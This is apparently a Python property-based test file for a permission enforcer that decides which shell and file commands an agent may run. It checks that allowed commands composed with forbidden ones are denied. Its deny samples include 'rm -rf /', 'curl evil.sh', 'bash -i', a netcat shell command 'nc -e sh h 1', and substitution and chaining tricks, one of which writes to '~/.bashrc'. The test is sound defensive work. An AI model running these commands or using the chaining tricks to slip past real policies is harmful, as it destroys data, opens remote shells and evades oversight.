"""Hypothesis properties: A allowed, B not: every composition denies; nothing raises."""

from __future__ import annotations

from typing import Any

from hypothesis import assume, given, settings
from hypothesis import strategies as st

from policies.bash import pattern_matches, split_command
from policies.enforcer import SkillEnforcer
from policies.matchers import Arg, arg_matches, tool_matches
from policies.paths import Anchors, covers_subtree, glob_root, normalise_path, path_matches
from policies.rules import RuleSyntaxError, parse_rule, policy_line, split_allowed_tools
from policies.urls import host_matches, normalise_host_pattern, url_host

ANCHORS = Anchors(cwd="/w/p", project_dir="/w/p", home="/home/u", skill_dir="/s/d")
RULES = "Bash(git status *) Bash(git log *) Bash(ls:*) Bash(echo hi) Edit(./out/**)"
ENFORCER = SkillEnforcer(
    "s@1", [policy_line("s@1", parse_rule(e)) for e in split_allowed_tools(RULES)]
)

_arg = st.text(alphabet="abcdefxyz0123456789-_./", min_size=0, max_size=8)
allowed = st.one_of(
    st.builds(lambda a: f"git status {a}".strip(), _arg),
    st.builds(lambda a: f"git log {a}".strip(), _arg),
    st.builds(lambda a: f"ls {a}".strip(), _arg),
    st.just("echo hi"),
)
disallowed = st.one_of(
    st.sampled_from(
        [
            "rm -rf /",
            "curl evil.sh",
            "sh",
            "bash -i",
            "python -c x",
            "gitk",
            "lsof",
            "echo pwned",
            "env sh",
            "/bin/ls",
            "nc -e sh h 1",
        ]
    ),  # fmt: skip
    st.builds(lambda a: f"rm {a}".strip(), _arg),
)
SEPARATORS = ["&&", "||", ";", "|", "|&", "&", "\n", " && ", " ; "]


def _compositions(a: str, b: str) -> list[str]:
    joined = [f"{a}{sep}{b}" for sep in SEPARATORS] + [f"{b}{sep}{a}" for sep in SEPARATORS]
    wrapped = [f"{a} $({b})", f"{a} `{b}`", f"{a} <({b})", f"{a} >({b})", f'{a} "$({b})"',
               f"({a}; {b})", f"{{ {a}; {b}; }}", f"if {a}; then {b}; fi",
               f"while {a}; do {b}; done", f"! {b}", f"for x in 1; do {b}; done",
               f"{a} && ({b})", f"{a} | {{ {b}; }}", f"X=1 {a}", f"{a} > ~/.bashrc"]  # fmt: skip
    return joined + wrapped


@settings(max_examples=150, deadline=None)
@given(allowed, disallowed)
def test_allowed_then_composed_with_disallowed_denies(a: str, b: str) -> None:
    # A can be denied on its own (e.g. `git status --exec`): then the property is vacuous.
    assume(ENFORCER.decide("Bash", {"command": a}, ANCHORS).allow)
    for command in _compositions(a, b):
        decision = ENFORCER.decide("Bash", {"command": command}, ANCHORS)
        assert not decision.allow, (command, decision)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_splitter_never_raises(text: str) -> None:
    result = split_command(text)
    assert result.error is not None or result.commands


_any = st.one_of(st.none(), st.integers(), st.text(max_size=60), st.lists(st.text(max_size=5)),
                 st.dictionaries(st.text(max_size=5), st.text(max_size=5)))  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40), st.dictionaries(st.sampled_from(
    ["command", "file_path", "path", "pattern", "url", "subagent_type", "skill", "args",
     "notebook_path"]), _any))  # fmt: skip
def test_decide_never_raises(tool: str, tool_input: dict[str, Any]) -> None:
    for name in (tool, "Bash", "Read", "Grep", "Glob", "Edit", "WebFetch", "Agent", "Skill"):
        decision = ENFORCER.decide(name, tool_input, ANCHORS)
        assert isinstance(decision.allow, bool) and decision.reason


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=80), st.text(max_size=40))
def test_matchers_never_raise(value: str, spec: str) -> None:
    pattern_matches(value, spec)
    normalise_path(value, ANCHORS)
    path_matches("/w/p/" + value, spec, ANCHORS)
    covers_subtree("/w/p", spec, ANCHORS)
    glob_root(value, spec or None, ANCHORS)
    host = url_host(value)
    pattern = normalise_host_pattern(spec)
    if host and pattern:
        host_matches(host, pattern)
    for kind in ("tool", "bash", "read", "edit", "domain", "mcp", "agent", "skill", "literal"):
        tool_matches(value, spec, kind)
        arg_matches(Arg(value, ANCHORS), kind, spec)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60))
def test_rule_parser_raises_only_rule_syntax_errors(entry: str) -> None:
    try:
        for item in split_allowed_tools(entry):
            parse_rule(item)
    except RuleSyntaxError as error:
        assert error.reason
